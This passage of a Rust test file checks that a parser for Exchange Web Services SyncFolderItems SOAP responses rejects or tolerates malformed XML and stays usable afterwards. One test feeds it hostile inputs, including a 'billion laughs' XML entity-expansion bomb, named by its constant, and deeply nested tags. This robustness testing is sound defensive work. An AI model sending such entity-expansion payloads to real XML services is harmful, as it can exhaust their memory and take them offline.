        for r in all_four(&xml) {
            assert_eq!(r.unwrap_err().code(), "ERR_NOT_SOAP", "{xml}");
        }
    }
    // A wrapped response without ResponseMessages.
    let xml = format!(
        r#"<s:Envelope xmlns:s="{SOAP}"><s:Body><m:SyncFolderItemsResponse xmlns:m="{M}"/></s:Body></s:Envelope>"#
    );
    assert_eq!(sfi_error(&xml).code(), "ERR_NOT_SOAP");
    still_works();
}

#[test]
fn a_body_with_two_elements() {
    let seed = fixture("seed-sfi-response.xml");
    let one = parse_sync_folder_items_response(&seed).unwrap();
    // The response first, then something else: the response is read, the rest ignored.
    let extra = "<x:Trailer xmlns:x=\"urn:x\"><x:y/></x:Trailer>";
    let two = seed.replacen("</soap:Body>", &format!("{extra}</soap:Body>"), 1);
    assert_eq!(parse_sync_folder_items_response(&two).unwrap(), one);
    // Twice the response: the first is the answer.
    let start = seed.find("<SyncFolderItemsResponse").unwrap();
    let end = seed.find("</soap:Body>").unwrap();
    let twice = seed.replacen(
        "</soap:Body>",
        &format!("{}</soap:Body>", &seed[start..end]),
        1,
    );
    assert_eq!(parse_sync_folder_items_response(&twice).unwrap(), one);
    // Something else first: not the expected response, named.
    let first = seed.replacen("<soap:Body>", &format!("<soap:Body>{extra}"), 1);
    assert_eq!(not_soap_found(&sfi_error(&first)), "Trailer");
    // Even the extra element must be well-formed.
    let broken = seed.replacen(
        "</soap:Body>",
        "<x:Trailer xmlns:x=\"urn:x\"></soap:Body>",
        1,
    );
    assert_eq!(sfi_error(&broken).code(), "ERR_MALFORMED_XML");
    // Two Bodies: only the first counts.
    let bodies = seed.replacen(
        "</soap:Envelope>",
        "<soap:Body><foo/></soap:Body></soap:Envelope>",
        1,
    );
    assert_eq!(parse_sync_folder_items_response(&bodies).unwrap(), one);
    still_works();
}

#[test]
fn mismatched_and_unbalanced_tags_are_malformed() {
    let seed = fixture("seed-sfi-response.xml");
    let subject_at = seed.find("<t:Subject>").unwrap() as u64;
    for (bad, min_pos) in [
        (seed.replacen("</t:Subject>", "</t:Subjekt>", 1), subject_at),
        (seed.replacen("</t:Subject>", "</Subject>", 1), subject_at),
        (seed.replacen("</t:Organizer>", "", 1), subject_at),
        (
            seed.replacen("<t:Sensitivity>", "<t:Sensitivity><t:Extra>", 1),
            subject_at,
        ),
        (
            seed.replacen("</soap:Envelope>", "</soap:Envelope></soap:Envelope>", 1),
            subject_at,
        ),
        (
            seed.replacen("</soap:Envelope>", "</soap:Envelope><soap:Envelope/>", 1),
            subject_at,
        ),
        (
            seed.replacen("</soap:Envelope>", "</soap:Envelope>trailing text", 1),
            subject_at,
        ),
        (
            seed.replacen("<t:Subject>", "<t:Subject <x>", 1),
            subject_at,
        ),
        (seed.replacen("-->", "", 1), 0),
    ] {
        let e = same_error(&bad);
        let at = malformed_at(&e);
        assert!(at >= min_pos && at <= bad.len() as u64, "{at}");
    }
    still_works();
}

#[test]
fn duplicated_and_broken_attributes_are_malformed() {
    let seed = fixture("seed-sfi-response.xml");
    for bad in [
        // on an element whose attributes are read
        seed.replacen("Id=\"AQApAHRwA==\"", "Id=\"AQApAHRwA==\" Id=\"other\"", 1),
        seed.replacen(
            "ResponseClass=\"Success\"",
            "ResponseClass=\"Success\" ResponseClass=\"Error\"",
            1,
        ),
        // on elements whose attributes nothing reads
        seed.replacen("<t:Subject>", "<t:Subject a=\"1\" a=\"2\">", 1),
        seed.replacen("<m:ResponseCode>", "<m:ResponseCode x=\"1\" x=\"1\">", 1),
        // broken attribute syntax
        seed.replacen("<t:Subject>", "<t:Subject a>", 1),
        seed.replacen("<t:Subject>", "<t:Subject a=1>", 1),
        seed.replacen("<t:Subject>", "<t:Subject a=\"1>", 1),
        seed.replacen("<t:Subject>", "<t:Subject a=\"<\">", 1),
    ] {
        assert_eq!(same_error(&bad).code(), "ERR_MALFORMED_XML");
    }
    still_works();
}

#[test]
fn values_of_the_wrong_type_are_kept_not_fatal() {
    // Numbers out of range, NaN, words for booleans: the element is kept verbatim
    // in unknownElements, the JSON stays valid, nothing panics.
    let xml = sfi_with(
        "",
        "<t:Size>99999999999999999999</t:Size><t:IsDraft>maybe</t:IsDraft><t:Subject>ok</t:Subject>",
    );
    let r = parse_sync_folder_items_response(&xml).unwrap();
    let json = serde_json::to_value(&r).unwrap();
    let item = &json["responseMessages"][0]["changes"][0]["item"];
    assert_eq!(item["subject"], "ok");
    assert_eq!(item["unknownElements"][0]["elementName"], "Size");
    assert_eq!(item["unknownElements"][1]["elementName"], "IsDraft");
    assert!(item.get("size").is_none() && item.get("isDraft").is_none());
    // A task's PercentComplete of NaN or infinity cannot be a JSON number.
    for v in ["NaN", "inf", "-infinity", "1e999"] {
        let xml = sfi_with("", "").replace(
            "<t:Message><t:ItemId Id=\"AAMk1\" ChangeKey=\"CQ1\"/></t:Message>",
            &format!("<t:Task><t:PercentComplete>{v}</t:PercentComplete></t:Task>"),
        );
        let r = parse_sync_folder_items_response(&xml).unwrap();
        let s = serde_json::to_string(&r).unwrap();
        assert!(
            s.contains(&format!("<t:PercentComplete>{v}</t:PercentComplete>")),
            "{s}"
        );
    }
    // Unknown ResponseClass is never taken for success.
    let xml = sfi_with("", "").replace("ResponseClass=\"Success\"", "ResponseClass=\"Great\"");
    let r = parse_sync_folder_items_response(&xml).unwrap();
    assert!(r.response_messages[0].status.is_error());
    // BackOffMilliseconds that is not a number: no number is made up.
    let xml = fixture("sfi-error-backoff.xml").replacen(">29794<", ">soon<", 1);
    let r = parse_sync_folder_items_response(&xml).unwrap();
    assert_eq!(r.response_messages[0].status.back_off_milliseconds, None);
    let j = serde_json::to_value(&r).unwrap();
    assert_eq!(
        j["responseMessages"][0]["messageXml"]["backOffMilliseconds"],
        "soon"
    );
    still_works();
}

#[test]
fn malformed_changes_are_kept_as_unknown() {
    // A Create without an item, a Delete without an id, a ReadFlagChange without
    // IsRead: not dropped silently, not fatal.
    let xml = sfi_with("", "").replacen(
        "<m:Changes>",
        "<m:Changes><t:Create/><t:Delete/><t:ReadFlagChange><t:ItemId Id=\"x\"/></t:ReadFlagChange><t:Teleport/>",
        1,
    );
    let r = parse_sync_folder_items_response(&xml).unwrap();
    let changes = r.response_messages[0].changes.as_ref().unwrap();
    let names: Vec<String> = changes
        .iter()
        .map(|c| match c {
            ews_wasm::SyncChange::Unknown(raw) => format!("Unknown {}", raw.element_name),
            ews_wasm::SyncChange::Create { item } => format!("Create {}", item.kind()),
            other => format!("{other:?}"),
        })
        .collect();
    assert_eq!(
        names,
        [
            "Unknown Create",
            "Unknown Delete",
            "Unknown ReadFlagChange",
            "Unknown Teleport",
            "Create Message"
        ]
    );
    still_works();
}

#[test]
fn hostile_inputs_in_a_row_leave_the_library_usable() {
    // The same valid parse before, between and after every kind of failure.
    let before =
        parse_sync_folder_items_response(&fixture("sfi-interleaved-all-kinds.xml")).unwrap();
    for bad in [
        String::new(),
        fixture("html-login-page.html"),
        "<a>".repeat(10_000),
        format!("{BILLION_LAUGHS}<lolz>&lol9;</lolz>"),
        fixture("fault-server-busy.xml"),
        "\0".repeat(100),
    ] {
        for r in all_four(&bad) {
            assert!(r.is_err());
        }
        let again =
            parse_sync_folder_items_response(&fixture("sfi-interleaved-all-kinds.xml")).unwrap();
        assert_eq!(again, before);
    }
}

#[test]
fn the_fuzz_corpus_replays_through_all_four_parsers() {
    // fuzz/corpus holds the seeds and inputs the fuzzers found interesting; they
    // are regression cases here too, without cargo-fuzz or nightly.
    let dir = format!("{}/fuzz/corpus", env!("CARGO_MANIFEST_DIR"));
    let mut replayed = 0;
    for target in std::fs::read_dir(&dir).expect("fuzz/corpus") {
        for input in std::fs::read_dir(target.unwrap().path()).unwrap() {
            let bytes = std::fs::read(input.unwrap().path()).unwrap();
            let xml = String::from_utf8_lossy(&bytes);
            for r in all_four(&xml) {
                if let Err(e) = r {
                    assert!(e.code().starts_with("ERR_"));
                }
            }
            replayed += 1;
        }
    }
    assert!(replayed > 100, "{replayed}");
    still_works();
}
